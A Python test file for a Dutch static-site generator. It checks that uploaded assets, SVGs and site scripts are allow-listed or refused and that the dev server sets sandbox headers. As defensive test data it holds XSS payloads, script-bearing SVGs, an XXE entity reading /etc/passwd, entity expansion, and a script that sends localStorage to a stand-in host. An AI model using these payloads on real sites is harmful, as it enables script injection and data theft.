"""No active file on the site's origin (issue 19, points 2 and 3).

Any werkplaats can change ``assets/`` in a pull request, and everything there is served
from the site's own origin, next to /beheer/ and its forge token. So a site file is
published only when its type is on the allow-list (by name and by bytes), JavaScript
comes only from the theme or from a script config.yaml names, an SVG holds no script,
event handler, foreignObject or external reference, and `wsdgen serve` and its local
/beheer/ backend keep that origin clean as well.
"""

from __future__ import annotations

import base64
import json
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from conftest import TODAY, Run

from wsdgen.incremental.rebuild import Rebuilder
from wsdgen.load.config import Overrides, load_config
from wsdgen.media.assets import THEME_ASSETS, bytes_problem, name_problem, suffix_of, upload_problem
from wsdgen.media.svgcheck import svg_problem
from wsdgen.pipeline import BuildOptions
from wsdgen.publish.beheer import cms_config
from wsdgen.serve.beheer_local import LocalFolder, Refused
from wsdgen.serve.server import DevSite, SearchMirror

SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
CLEAN_SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    f'<svg {SVG_NS} {XLINK} xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
    'viewBox="0 0 10 10" inkscape:version="1.3">\n'
    '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>\n'
    '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>\n'
    "<style>rect { fill: url(#g); }</style>\n"
    '<rect id="r" width="10" height="10" style="stroke:url(#g)"/>\n'
    '<use xlink:href="#r"/><a href="#r"><text>logo</text></a>\n'
    "</svg>\n"
)
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 64
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT_SVG = f"<svg {SVG_NS}><script>alert(1)</script></svg>".encode()


def write(site: Path, relative: str, data: bytes | str) -> Path:
    path = site / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


def add_config(site: Path, text: str) -> None:
    config = site / "config.yaml"
    config.write_text(config.read_text(encoding="utf-8") + text, encoding="utf-8")


def error_lines(result: Run, shown: str) -> list[str]:
    return [line for line in result.lines if line.startswith(f"{shown}:")]


def build(run: Callable[..., Run], site: Path, out: Path) -> Run:
    return run("build", "--site", str(site), "--out", str(out), "--today", TODAY, "--quiet")


def check(run: Callable[..., Run], site: Path) -> Run:
    return run("check", "--site", str(site))


# --- 1. The allow-list, by name. ---

REFUSED_NAMES = [
    "x/info.html",
    "js/eigen.js",
    "x/feed.xml",
    "x/pagina.xhtml",
    "x/oud.htm",
    "x/module.mjs",
    "x/code.wasm",
    "x/LEESMIJ",
    "x/logo.svgz",
    "x/info.html.",
    "x/INFO.HTML",
    "x/data.json",
    "x/stijl.xsl",
    "x/info.php",
]


@pytest.mark.parametrize("name", REFUSED_NAMES)
def test_an_active_or_unknown_asset_type_is_an_error_naming_the_file(
    run: Callable[..., Run], mini: Path, tmp_path: Path, name: str
) -> None:
    write(mini, f"assets/{name}", HTML)
    out = tmp_path / "out"
    result = build(run, mini, out)
    assert result.code == 1, result.err
    lines = error_lines(result, f"assets/{name}")
    assert len(lines) == 1, result.err
    assert lines[0].startswith(f"assets/{name}:1: error: ")
    # The message says which types are allowed (or where JavaScript comes from).
    assert "mogen alleen" in lines[0] or "site_scripts" in lines[0]
    assert not out.exists()


def test_a_second_active_extension_is_refused(run: Callable[..., Run], mini: Path) -> None:
    # Apache's mod_mime acts on every extension, so x.html.png can be served as a page.
    write(mini, "assets/x/info.html.png", PNG)
    result = check(run, mini)
    assert result.code == 1
    (line,) = error_lines(result, "assets/x/info.html.png")
    assert "extra extensie" in line and "info.png" in line


def test_every_allowed_type_is_published(
    run: Callable[..., Run], mini: Path, tmp_path: Path
) -> None:
    files: dict[str, bytes | str] = {
        "downloads/rapport.pdf": PDF,
        "downloads/Verslag.PDF": PDF,
        "downloads/tabel.xlsx": b"PK\x03\x04" + b"\x00" * 40,
        "downloads/brief.docx": b"PK\x03\x04" + b"\x00" * 40,
        "downloads/oud.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40,
        "downloads/notities.odt": b"PK\x03\x04" + b"\x00" * 40,
        "downloads/lijst.csv": "naam;plaats\nA;Delft\n",
        "downloads/leesmij.txt": "Gewone tekst.\n",
        "fonts/letter.woff2": b"wOF2" + b"\x00" * 40,
        "fonts/letter.woff": b"wOFF" + b"\x00" * 40,
        "fonts/letter.ttf": b"\x00\x01\x00\x00" + b"\x00" * 40,
        "fonts/letter.otf": b"OTTO" + b"\x00" * 40,
        "css/extra.css": "a { background: url(../img/logo.svg) } b { background: url(data:x) }",
        "img/logo.svg": CLEAN_SVG,
        "img/rapport.2024.v2.pdf": PDF,
    }
    for name, data in files.items():
        write(mini, f"assets/{name}", data)
    out = tmp_path / "out"
    result = build(run, mini, out)
    assert result.code == 0, result.err
    for name in files:
        if not name.endswith(".css"):
            assert (out / "assets" / name).read_bytes() == (mini / "assets" / name).read_bytes()
    assert list((out / "assets/css").glob("extra.*.css"))


def test_an_image_of_another_raster_format_is_still_a_picture() -> None:
    # Browsers show a JPEG sent as image/png; what matters is that it is no page.
    assert bytes_problem("png", JPEG) is None and bytes_problem("jpg", PNG) is None
    assert bytes_problem("webp", b"RIFF\x10\x00\x00\x00WEBPVP8 ") is None
    assert bytes_problem("avif", b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00") is None
    assert bytes_problem("doc", b"PK\x03\x04") is None


def test_the_allow_list_by_name() -> None:
    assert suffix_of("a/FOTO.JPG") == "jpg"
    assert suffix_of("x.html.") == "" and suffix_of("LEESMIJ") == "" and suffix_of("x.pdf ") == ""
    assert name_problem("img/FOTO.JPG") is None
    assert name_problem("downloads/jaarverslag.2023.pdf") is None
    assert name_problem("js/eigen.js", site_scripts=("js/eigen.js",)) is None
    assert name_problem("js/ander.js", site_scripts=("js/eigen.js",)) is not None
    for name in ("x.svgz", "x.xml", "x.wasm", "x.mjs", "x.exe", "x.zip", "x.mp4", "x.ics"):
        assert name_problem(name) is not None, name


# --- 1b. The allow-list, by bytes. ---

DISGUISED = [
    ("img/foto.png", HTML, "geen afbeelding (JPEG, PNG, GIF, WebP, AVIF of ICO) maar HTML"),
    ("img/foto.jpg", SCRIPT_SVG, "geen afbeelding (JPEG, PNG, GIF, WebP, AVIF of ICO) maar HTML"),
    ("img/foto.gif", PDF, "geen afbeelding"),
    ("img/foto.webp", b"RIFF\x00\x00\x00\x00WAVE", "geen afbeelding"),
    ("img/foto.avif", b"\x00\x00\x00\x20ftypmp42", "geen afbeelding"),
    ("favicon.ico", HTML, "geen afbeelding"),
    ("downloads/rapport.pdf", b"<html>%PDF-1.7", "geen PDF-document maar HTML"),
    ("downloads/leeg.pdf", b"", "geen PDF-document"),
    ("downloads/brief.docx", HTML, "geen Office- of OpenDocument-bestand"),
    ("fonts/letter.woff2", HTML, "geen lettertype"),
    ("downloads/leesmij.txt", HTML, "begint met <"),
    ("downloads/lijst.csv", b"a,b\n\x00\x00", "geen tekstbestand"),
    ("css/extra.css", b"<script>alert(1)</script>", "begint met <"),
    ("css/extra.css", b"@import 'https://elders.example/x.css';", "buiten de site"),
    ("css/extra.css", b"a { background: u\\72l(//elders.example/p.gif) }", "buiten de site"),
]


@pytest.mark.parametrize(("name", "data", "expected"), DISGUISED)
def test_bytes_that_do_not_fit_the_extension_are_an_error(
    run: Callable[..., Run], mini: Path, name: str, data: bytes, expected: str
) -> None:
    write(mini, f"assets/{name}", data)
    result = check(run, mini)
    assert result.code == 1, result.err
    (line,) = error_lines(result, f"assets/{name}")
    assert line.startswith(f"assets/{name}:1: error: ") and expected in line, line


def test_the_fixture_sites_and_the_theme_pass_the_rule() -> None:
    assert bytes_problem("svg", (THEME_ASSETS / "img/favicon.svg").read_bytes()) is None
    assert bytes_problem("css", (THEME_ASSETS / "css/style.css").read_bytes()) is None
    mini_pdf = Path(__file__).parent / "sites/mini/assets/publicaties/rapport.pdf"
    assert bytes_problem("pdf", mini_pdf.read_bytes()) is None


# --- 2. JavaScript only from the theme, or named in config.yaml. ---


def test_a_site_script_is_an_error_unless_config_names_it(
    run: Callable[..., Run], mini: Path, tmp_path: Path
) -> None:
    write(mini, "assets/js/eigen.js", "console.log('eigen');\n")
    result = check(run, mini)
    assert result.code == 1
    (line,) = error_lines(result, "assets/js/eigen.js")
    assert "site_scripts" in line and "centrale redactie" in line

    add_config(mini, "site_scripts: [js/eigen.js]\n")
    out = tmp_path / "out"
    result = build(run, mini, out)
    assert result.code == 0, result.err
    assert len(list((out / "assets/js").glob("eigen.*.js"))) == 1


def test_replacing_the_theme_search_script_is_an_error_unless_named(
    run: Callable[..., Run], mini: Path, tmp_path: Path
) -> None:
    write(mini, "assets/js/zoeken.js", "fetch('https://elders.example/?' + localStorage);\n")
    result = check(run, mini)
    assert result.code == 1
    (line,) = error_lines(result, "assets/js/zoeken.js")
    assert "vervangt het script js/zoeken.js van het thema" in line

    add_config(mini, "site_scripts:\n  - assets/js/zoeken.js\n")
    out = tmp_path / "out"
    assert build(run, mini, out).code == 0
    (published,) = (out / "assets/js").glob("zoeken.*.js")
    assert b"elders.example" in published.read_bytes()


@pytest.mark.parametrize(
    ("setting", "expected"),
    [
        ("site_scripts: [../geheim.js]\n", "geen pad naar een .js-bestand"),
        ("site_scripts: [js/eigen.html]\n", "geen pad naar een .js-bestand"),
        ("site_scripts: [/js/eigen.js]\n", "geen pad naar een .js-bestand"),
        ("site_scripts: [.verborgen/x.js]\n", "geen pad naar een .js-bestand"),
        ("site_scripts:\n  eigen: js/eigen.js\n", "moet een lijst paden zijn"),
    ],
)
def test_a_wrong_site_scripts_setting_is_a_config_error(
    run: Callable[..., Run], mini: Path, setting: str, expected: str
) -> None:
    lines_before = len((mini / "config.yaml").read_text(encoding="utf-8").splitlines())
    add_config(mini, setting)
    result = check(run, mini)
    assert result.code == 2, result.err
    (line,) = [line for line in result.lines if "site_scripts" in line]
    assert line.startswith(f"config.yaml:{lines_before + 1}: error: ") and expected in line


def test_a_site_script_that_does_not_exist_is_an_error(run: Callable[..., Run], mini: Path) -> None:
    add_config(mini, "site_scripts: [js/weg.js]\n")
    result = check(run, mini)
    assert result.code == 1
    assert any("site_scripts noemt js/weg.js" in line for line in result.lines)


# --- 3. SVG: only plain pictures. ---

SVG_ATTACKS = [
    (f"<svg {SVG_NS}>\n<script>alert(1)</script></svg>", 2, "<script>"),
    (
        '<s:svg xmlns:s="http://www.w3.org/2000/svg">\n\n<s:script>alert(1)</s:script></s:svg>',
        3,
        "<script>",
    ),
    (f'<svg {SVG_NS} onload="alert(1)"/>', 1, "onload"),
    (f'<svg {SVG_NS}>\n<rect onClick="alert(1)"/></svg>', 2, "onClick"),
    (f"<svg {SVG_NS}><foreignObject><div/></foreignObject></svg>", 1, "foreignObject"),
    (
        f'<svg {SVG_NS}><h:script xmlns:h="http://www.w3.org/1999/xhtml">x</h:script></svg>',
        1,
        "<script>",
    ),
    (
        f'<svg {SVG_NS}><h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/></svg>',
        1,
        "geen SVG",
    ),
    (f'<svg {SVG_NS} {XLINK}><use xlink:href="andere.svg#a"/></svg>', 1, "andere.svg"),
    (f'<svg {SVG_NS}><image href="https://elders.example/p.png"/></svg>', 1, "elders.example"),
    (
        f'<svg {SVG_NS}><a href="java&#x09;script:alert(1)"><text>x</text></a></svg>',
        1,
        "javascript:",
    ),
    (
        f'<svg {SVG_NS}><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
        1,
        "<set>",
    ),
    (
        f"<svg {SVG_NS}>\n<style>\nrect {{ fill: url(https://elders.example/x) }}</style></svg>",
        2,
        "url(https://elders.example/x)",
    ),
    (f'<svg {SVG_NS}><rect style="fill:u\\72l(//elders.example/x)"/></svg>', 1, "url("),
    (f"<svg {SVG_NS}><style>@import 'x.css';</style></svg>", 1, "@import"),
    (f'<svg {SVG_NS} xml:base="https://elders.example/"><use href="#a"/></svg>', 1, "xml:base"),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY a "aaaaaaaaaa">\n'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\n]>\n'
        f"<svg {SVG_NS}><text>&b;</text></svg>",
        2,
        "DOCTYPE",
    ),
    (
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f"<svg {SVG_NS}><text>&x;</text></svg>",
        1,
        "DOCTYPE",
    ),
    (f'<?xml-stylesheet type="text/xsl" href="x.xsl"?><svg {SVG_NS}/>', 1, "xml-stylesheet"),
    ("<html><body><script>alert(1)</script></body></html>", 1, "geen SVG-afbeelding"),
    ("<svg><script>alert(1)</script></svg>", 1, "geen SVG-afbeelding"),
    (f"<svg {SVG_NS}><rect></svg>", 1, "geen geldige XML"),
]


@pytest.mark.parametrize(("svg", "line", "expected"), SVG_ATTACKS)
def test_an_svg_with_script_or_external_references_is_an_error(
    run: Callable[..., Run], mini: Path, svg: str, line: int, expected: str
) -> None:
    write(mini, "assets/x/logo.svg", svg)
    result = check(run, mini)
    assert result.code == 1, result.err
    (found,) = error_lines(result, "assets/x/logo.svg")
    assert found.startswith(f"assets/x/logo.svg:{line}: error: ") and expected in found, found


def test_a_clean_svg_from_a_drawing_program_passes() -> None:
    assert svg_problem(CLEAN_SVG.encode()) is None
    embedded = f'<svg {SVG_NS}><image href="data:image/png;base64,iVBORw0KGgo="/></svg>'
    assert svg_problem(embedded.encode()) is None


def test_replacing_the_theme_favicon_with_a_script_is_an_error(
    run: Callable[..., Run], mini: Path
) -> None:
    write(mini, "assets/img/favicon.svg", f'<svg {SVG_NS} onload="alert(1)"/>')
    result = check(run, mini)
    assert result.code == 1
    assert error_lines(result, "assets/img/favicon.svg")


def test_an_svg_is_checked_again_after_it_changes(mini: Path) -> None:
    # The verdict cache is keyed on the file's version, never on its name alone.
    from wsdgen.media.assets import collect_assets
    from wsdgen.session import Session, active

    svg = write(mini, "assets/x/logo.svg", CLEAN_SVG)
    with active(Session()) as session:  # one session, as serve keeps it between edits
        assert not collect_assets(mini)[1]
        assert session.verdicts
        svg.write_text(CLEAN_SVG.replace("<rect ", '<rect onclick="alert(1)" '), encoding="utf-8")
        problems = collect_assets(mini)[1]
    assert [p.path for p in problems] == ["assets/x/logo.svg"]


# --- 4. serve keeps its origin clean. ---


@pytest.fixture
def dev_site(mini: Path) -> Iterator[DevSite]:
    options = BuildOptions(
        site_dir=mini, base_url="http://127.0.0.1:8000/", drafts=True, write=False
    )
    mirror = SearchMirror()
    app = DevSite(Rebuilder(options), mirror)
    try:
        yield app
    finally:
        mirror.close()


def get(app: DevSite, path: str) -> tuple[str, dict[str, str], bytes]:
    answer: dict[str, object] = {}

    def start_response(status: str, headers: list[tuple[str, str]]) -> None:
        answer["status"], answer["headers"] = status, dict(headers)

    body = b"".join(app({"PATH_INFO": path, "REQUEST_METHOD": "GET"}, start_response))
    headers = answer["headers"]
    assert isinstance(headers, dict)
    return str(answer["status"]), headers, body


def theme_script(app: DevSite) -> str:
    (path,) = [p for p in app.rebuilder.asset_sources if p.startswith("/assets/js/zoeken.")]
    return path.removeprefix("/assets/js/")


def test_serve_sandboxes_every_file_that_is_not_a_page(dev_site: DevSite) -> None:
    assert dev_site.refresh() is not None and not dev_site.errors
    outputs = dev_site.rebuilder.outputs
    (stylesheet,) = [p for p in dev_site.rebuilder.asset_sources if p.endswith(".css")]
    pagefind = dev_site.search.folder / "pagefind" if dev_site.search else Path()
    pagefind.mkdir(parents=True, exist_ok=True)
    (pagefind / "pagefind-entry.json").write_text("{}", encoding="utf-8")
    (pagefind / "wasm.nl.pagefind").write_bytes(b"\x00asm")
    (pagefind / "pagefind-worker.js").write_text("onmessage = () => {};", encoding="utf-8")
    files = [
        "/assets/publicaties/rapport.pdf",
        "/assets/img/favicon.svg",
        stylesheet,
        "/pagefind/pagefind-entry.json",
        "/pagefind/wasm.nl.pagefind",
        *(f"/{name}" for name in outputs if name.endswith((".xml", ".ics", ".txt", ".yml"))),
    ]
    assert "/kenniscafes/agenda.ics" in files and "/sitemap.xml" in files
    for path in files:
        status, headers, _ = get(dev_site, path)
        assert status == "200 OK", path
        assert headers.get("X-Content-Type-Options") == "nosniff", path
        assert headers.get("Content-Security-Policy") == "sandbox", path
    for path in ("/", "/kenniscafes/", "/bestaat-niet/"):
        _, headers, _ = get(dev_site, path)
        assert headers["Content-Type"].startswith("text/html"), path
        assert headers.get("X-Content-Type-Options") == "nosniff", path
        assert "Content-Security-Policy" not in headers, path
    # Scripts are never shown as a document, and a worker (Pagefind's) would take the
    # sandbox as its own policy: nosniff only.
    for path in ("/pagefind/pagefind-worker.js", "/assets/js/" + theme_script(dev_site)):
        status, headers, _ = get(dev_site, path)
        assert status == "200 OK", path
        assert headers.get("X-Content-Type-Options") == "nosniff", path
        assert "Content-Security-Policy" not in headers, path
    status, headers, _ = get(dev_site, "/bad\\path")
    assert status.startswith("400") and headers.get("X-Content-Type-Options") == "nosniff"


def test_serve_shows_the_panel_on_a_page_that_mentions_its_marker(
    dev_site: DevSite, mini: Path
) -> None:
    page = mini / "content/paginas/over-ons.md"
    text = page.read_text(encoding="utf-8")
    page.write_text(text + '\nHier staat wsdgen-fouten en id="wsdgen-fouten".\n', "utf-8")
    assert dev_site.refresh() is not None and not dev_site.errors
    status, _, body = get(dev_site, "/over-ons/")
    assert status == "200 OK" and b"wsdgen-fouten" in body and b"De site bevat fouten" not in body
    cafe = mini / "content/kenniscafes/2017-04-14-schulden.md"
    cafe.write_text(cafe.read_text(encoding="utf-8").replace("datum: ", "datum: x"), "utf-8")
    dev_site.refresh()
    assert dev_site.errors
    _, _, body = get(dev_site, "/over-ons/")
    assert body.count(b"De site bevat fouten") == 1
    assert b"2017-04-14-schulden.md" in body


def test_the_error_page_shows_its_panel_once(mini: Path) -> None:
    cafe = mini / "content/kenniscafes/2017-04-14-schulden.md"
    cafe.write_text(cafe.read_text(encoding="utf-8").replace("datum: ", "datum: x"), "utf-8")
    options = BuildOptions(site_dir=mini, base_url="http://127.0.0.1:8000/", write=False)
    app = DevSite(Rebuilder(options))
    app.refresh()
    _, headers, body = get(app, "/")
    assert body.count(b"De site bevat fouten") == 1
    assert headers.get("X-Content-Type-Options") == "nosniff"


# --- 5. The local /beheer/ backend takes only what the build publishes. ---


def media_request(name: str, data: bytes) -> dict[str, object]:
    content = base64.b64encode(data).decode("ascii")
    asset = {"path": f"assets/afbeeldingen/{name}", "content": content, "encoding": "base64"}
    return {"asset": asset}


REFUSED_UPLOADS = [
    ("x.html", HTML),
    ("x.htm", HTML),
    ("x.js", b"alert(1)"),
    ("x.svgz", b"\x1f\x8b"),
    ("logo.svg", SCRIPT_SVG),
    ("logo.svg", f'<svg {SVG_NS} onload="alert(1)"/>'.encode()),
    ("foto.png", HTML),
    ("foto.jpg", SCRIPT_SVG),
    ("foto.JPG", HTML),
    ("rapport.pdf", HTML),
    ("info.html.png", PNG),
    ("zonder-extensie", PDF),
]


@pytest.mark.parametrize(("name", "data"), REFUSED_UPLOADS)
def test_the_local_backend_refuses_uploads_outside_the_allow_list(
    mini: Path, name: str, data: bytes
) -> None:
    folder = LocalFolder(mini)
    with pytest.raises(Refused, match="wordt niet opgeslagen"):
        folder.answer("persistMedia", media_request(name, data))
    assert not (mini / "assets/afbeeldingen" / name).exists()
    assert upload_problem(name, data) is not None


def test_the_local_backend_refuses_an_entry_with_a_bad_upload_and_writes_nothing(
    mini: Path,
) -> None:
    entry = {"path": "content/nieuws/2026-01-01-nieuw.md", "raw": "---\ntitle: Nieuw\n---\n"}
    bad = media_request("foto.png", HTML)["asset"]
    with pytest.raises(Refused):
        LocalFolder(mini).answer("persistEntry", {"entry": entry, "assets": [bad]})
    assert not (mini / "content/nieuws/2026-01-01-nieuw.md").exists()
    assert not (mini / "assets/afbeeldingen/foto.png").exists()


@pytest.mark.parametrize(
    ("name", "data"),
    [("logo.svg", CLEAN_SVG.encode()), ("foto.png", PNG), ("foto.jpg", JPEG), ("r.pdf", PDF)],
)
def test_the_local_backend_takes_allowed_uploads(mini: Path, name: str, data: bytes) -> None:
    answer = LocalFolder(mini).answer("persistMedia", media_request(name, data))
    assert isinstance(answer, dict) and answer["name"] == name
    assert (mini / "assets/afbeeldingen" / name).read_bytes() == data


def test_serve_answers_a_bad_upload_with_422_and_writes_nothing(tmp_path: Path) -> None:
    from test_serve_security import end, start

    served = start(tmp_path)
    try:
        origin = f"http://127.0.0.1:{served.port}"
        for name, data in (("x.html", HTML), ("foto.png", HTML), ("logo.svg", SCRIPT_SVG)):
            body = json.dumps({"action": "persistMedia", "params": media_request(name, data)})
            request = urllib.request.Request(
                f"{origin}/beheer/api/v1",
                data=body.encode(),
                headers={"Content-Type": "application/json", "Origin": origin},
                method="POST",
            )
            with pytest.raises(urllib.error.HTTPError) as caught:
                urllib.request.urlopen(request, timeout=15)
            assert caught.value.code == 422, name
            assert "wordt niet opgeslagen" in json.loads(caught.value.read())["error"]
            assert caught.value.headers["X-Content-Type-Options"] == "nosniff"
            assert not (served.site / "assets/afbeeldingen" / name).exists()
    finally:
        end(served)


def test_the_cms_sanitises_every_markdown_preview(mini: Path) -> None:
    config, problems = load_config(mini, Overrides(local_beheer=True))
    assert config is not None, problems
    settings = cms_config(config)
    collections = settings["collections"]
    assert isinstance(collections, list)
    markdown = [
        field
        for collection in collections
        for field in collection["fields"]
        if field.get("widget") == "markdown"
    ]
    assert markdown and all(field.get("sanitize_preview") is True for field in markdown)


def test_an_image_the_allow_list_refuses_is_not_called_missing(
    run: Callable[..., Run], mini: Path
) -> None:
    write(mini, "assets/img/logo.svg", f'<svg {SVG_NS} onload="alert(1)"/>')
    news = mini / "content/nieuws/2019-04-01-svg.md"
    news.write_text(
        "---\ntitle: Logo\ndatum: 2019-04-01\n---\n![Het logo](/assets/img/logo.svg)\n",
        encoding="utf-8",
    )
    result = check(run, mini)
    assert result.code == 1
    assert error_lines(result, "assets/img/logo.svg")
    [on_entry] = error_lines(result, "content/nieuws/2019-04-01-svg.md")
    assert "wordt niet gepubliceerd" in on_entry and "bestaat niet" not in on_entry
